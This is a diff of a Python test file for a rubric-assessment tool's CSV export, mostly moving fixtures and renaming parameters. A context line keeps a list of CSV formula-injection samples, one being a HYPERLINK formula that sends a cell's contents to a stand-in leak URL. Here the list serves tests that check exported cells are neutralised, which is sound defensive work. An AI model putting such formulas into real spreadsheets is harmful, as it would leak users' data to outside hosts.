@@ -12,15 +12,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cat_rubric import Assessment, Rubric, assess, load_evidence, load_rubric, render
+from cat_rubric import Assessment, Rubric, assess, render
 from cat_rubric._csv import DANGEROUS, JOIN, PREFIX, cell, unquote, write_rows
 from cat_rubric._tables import CRITERION_COLUMNS, ITEM_COLUMNS
 from cat_rubric.exceptions import AssessmentError, SettingsError
-from tests.conftest import EXAMPLES, Run
+from tests.conftest import NGO, STATE, Run
 from tests.test_hostile import HOSTILE, _hostile_evidence, _hostile_rubric
 
-STATE = str(EXAMPLES / "kaz-2010-state-reply.yaml")
-NGO = str(EXAMPLES / "kaz-2010-ngo-report.yaml")
 #: Text a spreadsheet would run, or that sits next to the rule's edge.
 FORMULAS = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
@@ -49,17 +47,6 @@ def assert_inert(rows: list[list[str]]) -> None:
     for row in rows:
         for value in row:
             assert not value.startswith(DANGEROUS), value
-
-
-@pytest.fixture(name="rubric", scope="module")
-def _rubric() -> Rubric:
-    return load_rubric("cat-kaz-co-2")
-
-
-@pytest.fixture(name="result", scope="module")
-def _result(rubric: Rubric) -> Assessment:
-    files = [load_evidence(path, rubric=rubric) for path in (STATE, NGO)]
-    return assess(rubric, files)
 
 
 #: Any text (the CSV module and UTF-8 take any code point but a lone surrogate), with the
@@ -115,57 +102,57 @@ class TestTheLaw:
 
 
 class TestReport:
-    def test_criteria_rows_follow_the_records(self, result: Assessment, rubric: Rubric) -> None:
+    def test_criteria_rows_follow_the_records(self, example: Assessment, kaz: Rubric) -> None:
         """One row per criterion of every part, the records' columns plus the statement."""
-        parsed = parse(render.csv(result, rubric))
+        parsed = parse(render.csv(example, kaz))
         assert parsed[0] == CRITERIA_HEADER
-        records = result.to_records("criteria")
+        records = example.to_records("criteria")
         assert len(parsed) == len(records) + 1
         for row, record in zip(parsed[1:], records, strict=True):
             got = dict(zip(CRITERIA_HEADER, row, strict=True))
-            assert got["statement"] == rubric.criterion(record["criterion"]).statement
+            assert got["statement"] == kaz.criterion(record["criterion"]).statement
             for name, value in record.items():
                 assert got[name] == cell(value), name
         disputed = [r for r in parsed[1:] if r[CRITERIA_HEADER.index("disputed")] == "true"]
         assert len(disputed) == 3
 
-    def test_items_rows_follow_the_records(self, result: Assessment, rubric: Rubric) -> None:
+    def test_items_rows_follow_the_records(self, example: Assessment, kaz: Rubric) -> None:
         """One row per item and criterion, with the items level's columns."""
-        parsed = parse(render.csv(result, rubric, level="items"))
+        parsed = parse(render.csv(example, kaz, level="items"))
         assert parsed[0] == list(ITEM_COLUMNS)
-        records = result.to_records("items")
+        records = example.to_records("items")
         assert [dict(zip(ITEM_COLUMNS, r, strict=True)) for r in parsed[1:]] == [
             {name: cell(value) for name, value in record.items()} for record in records
         ]
         flags = [r[ITEM_COLUMNS.index("illustrative")] for r in parsed[1:]]
-        assert flags == [cell(u.illustrative) for u in result.items]
+        assert flags == [cell(u.illustrative) for u in example.items]
         assert set(flags) == {"true", "false"}  # invented items, and documented ones
 
-    def test_lines_end_in_crlf(self, result: Assessment, rubric: Rubric) -> None:
+    def test_lines_end_in_crlf(self, example: Assessment, kaz: Rubric) -> None:
         """RFC 4180 line ends, and no byte-order mark."""
-        text = render.csv(result, rubric)
+        text = render.csv(example, kaz)
         assert text.endswith("\r\n")
         assert text.startswith("paragraph,")
-        assert text.count("\r\n") >= len(result.to_records("criteria")) + 1
+        assert text.count("\r\n") >= len(example.to_records("criteria")) + 1
 
-    def test_an_unknown_level_is_refused(self, result: Assessment, rubric: Rubric) -> None:
+    def test_an_unknown_level_is_refused(self, example: Assessment, kaz: Rubric) -> None:
         """Only criteria and items: anything else is a SettingsError naming both."""
         with pytest.raises(SettingsError, match="criteria, items"):
-            render.csv(result, rubric, level="parts")  # type: ignore[arg-type]
+            render.csv(example, kaz, level="parts")  # type: ignore[arg-type]
 
-    def test_a_criterion_missing_from_the_rubric(self, result: Assessment, rubric: Rubric) -> None:
+    def test_a_criterion_missing_from_the_rubric(self, example: Assessment, kaz: Rubric) -> None:
         """A rubric of the same id that lacks one of the criteria is refused, not a KeyError."""
-        rec = rubric.recommendations[0]
+        rec = kaz.recommendations[0]
         part = next(p for p in rec.parts if not all(c.essential for c in p.criteria))
         dropped = next(c for c in part.criteria if not c.essential)
         shorter = attrs.evolve(part, criteria=tuple(c for c in part.criteria if c != dropped))
         parts = tuple(shorter if p is part else p for p in rec.parts)
         other = attrs.evolve(
-            rubric,
-            recommendations=(attrs.evolve(rec, parts=parts), *rubric.recommendations[1:]),
+            kaz,
+            recommendations=(attrs.evolve(rec, parts=parts), *kaz.recommendations[1:]),
         )
         with pytest.raises(AssessmentError, match=dropped.id):
-            render.csv(result, other)
+            render.csv(example, other)
 
 
 class TestCommandLine:
